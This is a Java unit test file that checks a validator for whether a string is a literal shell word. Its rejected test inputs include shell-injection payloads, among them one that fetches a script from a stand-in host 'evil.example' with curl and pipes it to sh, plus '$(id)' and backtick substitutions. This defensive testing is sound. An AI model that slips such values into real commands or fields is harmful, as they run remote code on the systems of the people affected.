package io.mcpctl.text;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ShellWordTest {

  @ParameterizedTest
  @ValueSource(strings = {"secret", "kv-v2", "team_a/kv", "mcpctl/prod.1", "ns1/child", "a=b,c"})
  void wordsAShellReadsAsWrittenAreLiteral(String value) {
    assertThat(ShellWord.isLiteral(value)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "mcpctl;curl${IFS}evil.example|sh",
        "x$(id)",
        "a`id`",
        "a b",
        "a'b",
        "a\"b",
        "a&b",
        "a>b",
        "~root",
        "a*",
        "a?",
        "{a,b}",
        "-rf",
        "a\\b",
        "a\nb",
        "!a",
        "a#b"
      })
  void wordsAShellWouldActOnAreNot(String value) {
    assertThat(ShellWord.isLiteral(value)).isFalse();
  }
}
